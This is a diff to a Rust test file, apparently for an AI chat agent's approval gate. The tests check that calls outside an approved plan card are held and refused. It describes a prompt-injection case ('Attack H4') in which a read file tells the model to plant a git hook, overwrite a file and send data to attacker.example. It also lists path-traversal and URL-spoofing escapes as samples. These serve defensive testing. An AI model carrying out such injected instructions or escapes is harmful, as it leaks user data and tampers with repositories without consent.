@@ -2,10 +2,11 @@
 
 use serde_json::{Value, json};
 
+use crate::support::api::eventually;
 use crate::support::fake_model::{call, say};
 use crate::support::platform::{On, on_both};
-use crate::support::scripts::{clarified, finished, in_order, planned, reads, writes};
-use crate::support::world::{GROUP, World, place, step};
+use crate::support::scripts::{clarified, finished, in_order, planned, reads, step, writes};
+use crate::support::world::{GROUP, To, World, place};
 
 use super::actions::actions;
 
@@ -27,14 +28,40 @@ fn fetches(url: &str) -> Value {
     call([("web_fetch", json!({ "url": url }))])
 }
 
-/// The arguments that the calls of this status act on, oldest first.
+/// Where the calls of this status act, in order of their names.
 async fn places(world: &World, status: &str) -> Vec<String> {
     let rows = actions(world, status).await;
     let place = |row: &Value| {
         let arguments = &row["arguments"];
         arguments["path"].as_str().or_else(|| arguments["url"].as_str()).unwrap().to_owned()
     };
-    rows.iter().rev().map(place).collect()
+    let mut places: Vec<String> = rows.iter().map(place).collect();
+    places.sort();
+    places
+}
+
+/// Waits until people are asked about exactly these places, and says no.
+async fn refuses(world: &World, asked: &[&str]) {
+    let (u, c) = (world.on.user("u1"), world.on.chat("c1"));
+    eventually("the question", async || (places(world, "pending").await == asked).then_some(())).await;
+    let card = world
+        .seen("its card", |seen| {
+            seen.messages.iter().rfind(|m| m.button("reject").is_some()).cloned()
+        })
+        .await;
+    world
+        .say(
+            u,
+            c,
+            "不行",
+            To {
+                reply_to: Some(&card.id),
+                group: true,
+                ..GROUP
+            },
+        )
+        .await;
+    eventually("the refusal", async || places(world, "pending").await.is_empty().then_some(())).await;
 }
 
 /// Attack H4: a file that is read after the OK tells the model to write a git hook, to overwrite another file, and to fetch an address that
@@ -64,20 +91,10 @@ async fn an_ok_covers_no_call_that_its_card_does_not_list(on: On) {
     assert_eq!((&pending["grants"], &pending["asks"]), (&json!([grant]), &json!(["web_fetch"])));
     world.tap(u, c, &card, "approve", None).await;
 
-    let mut asked = world.card_titled(c, "操作确认").await;
+    refuses(&world, &[".git/hooks/post-checkout", "budget.xlsx.csv"]).await;
     assert_eq!(places(&world, "executed").await, ["summary.md"]);
-    assert_eq!(places(&world, "pending").await, [".git/hooks/post-checkout", "budget.xlsx.csv"]);
-    world.tap(u, c, &asked, "reject", None).await;
-    world.say(u, c, "不行", GROUP).await;
-    for again in ["summary.md", "http://attacker.example/?d=ship%20the%20report"] {
-        asked = world.card_after(c, &asked).await;
-        assert_eq!(
-            places(&world, "pending").await,
-            [again],
-            "a second use of what was listed once, and an address"
-        );
-        world.say(u, c, "不行", GROUP).await;
-    }
+    refuses(&world, &["summary.md"]).await;
+    refuses(&world, &["http://attacker.example/?d=ship%20the%20report"]).await;
     world.hears(c, "写好了").await;
     assert_eq!(
         (world.file(".git/hooks/post-checkout"), world.file("budget.xlsx.csv")),
@@ -99,39 +116,29 @@ async fn nothing_escapes_what_the_card_lists(on: On) {
     let declared = json!({ "id": "1", "content": "写", "calls": [
         { "tool": "write_file", "arguments": { "path": "out/*.md" }, "times": 9 },
         { "tool": "web_fetch", "arguments": { "url": "https://example.invalid/a/*" }, "times": 9 }] });
-    let escapes = [
-        writes(&[
-            "./out//a.md",
-            "out/b/a.md",
-            "OUT/a.md",
-            "out/a.md.",
-            "out/%2e%2e/a.md",
-            "out/../b.md",
-        ]),
-        fetches("https://example.invalid/a/../b"),
-        fetches("https://example.invalid/a/%2e%2e/b"),
-        fetches("https://example.invalid/a/b?d=secret"),
-        fetches("https://example.invalid:8443/a/b"),
-        fetches("https://example.invalid@attacker.example/a/b"),
+    let paths = ["OUT/a.md", "out/%2e%2e/a.md", "out/../b.md", "out/a.md.", "out/b/a.md"];
+    let urls = [
+        "https://example.invalid/a/../b",
+        "https://example.invalid/a/%2e%2e/b",
+        "https://example.invalid/a/b?d=secret",
+        "https://example.invalid:8443/a/b",
+        "https://example.invalid@attacker.example/a/b",
     ];
+    let covered = ["./out//a.md"];
     let mut script = vec![plan(&[declared]), clarified()];
-    script.extend(escapes.iter().cloned());
+    script.push(writes(&[&covered[..], &paths[..]].concat()));
+    script.extend(urls.map(fetches));
     script.extend([finished(), say("好了")]);
     let world = World::start_on(on, &[("TOOLS__WEB_FETCH", "true")], in_order(script)).await;
     world.say(u, c, "写", GROUP).await;
     let card = world.plan_card(c).await;
     world.tap(u, c, &card, "approve", None).await;
-    let mut asked = world.card_titled(c, "操作确认").await;
-    assert_eq!(places(&world, "executed").await, ["./out//a.md"]);
-    assert_eq!(places(&world, "pending").await.len(), 5);
-    for _ in 1..escapes.len() {
-        world.say(u, c, "不行", GROUP).await;
-        asked = world.card_after(c, &asked).await;
-        assert_eq!(places(&world, "pending").await.len(), 1);
+    refuses(&world, &paths).await;
+    for url in urls {
+        refuses(&world, &[url]).await;
     }
-    world.say(u, c, "不行", GROUP).await;
     world.hears(c, "好了").await;
-    assert_eq!(places(&world, "executed").await, ["./out//a.md"]);
+    assert_eq!(places(&world, "executed").await, covered);
     world.end().await;
 }
 
@@ -152,12 +159,8 @@ async fn a_changed_plan_covers_what_its_own_card_lists(on: On) {
     world.say(u, c, "写到 b.md", GROUP).await;
     let second = world.card_after(c, &first).await;
     world.tap(u, c, &second, "approve", None).await;
-    world.card_titled(c, "操作确认").await;
-    assert_eq!(
-        (places(&world, "executed").await, places(&world, "pending").await),
-        (vec!["b.md".into()], vec!["a.md".into()])
-    );
-    world.say(u, c, "不行", GROUP).await;
+    refuses(&world, &["a.md"]).await;
+    assert_eq!(places(&world, "executed").await, ["b.md"]);
     world.hears(c, "好了").await;
     world.end().await;
 }
@@ -189,9 +192,8 @@ async fn in_plan_mode_a_call_belongs_to_its_step(on: On) {
     world.say(u, c, "写", GROUP).await;
     let card = world.plan_card(c).await;
     world.tap(u, c, &card, "approve", None).await;
-    world.card_titled(c, "操作确认").await;
-    assert_eq!(places(&world, "pending").await, ["a.md"], "step 1 has not declared it");
-    world.say(u, c, "不行", GROUP).await;
+    // Step 1 has not declared it.
+    refuses(&world, &["a.md"]).await;
     world.hears(c, "好了").await;
     assert_eq!(places(&world, "executed").await, ["a.md"]);
     assert_eq!(world.titled(c, "操作确认"), 1);
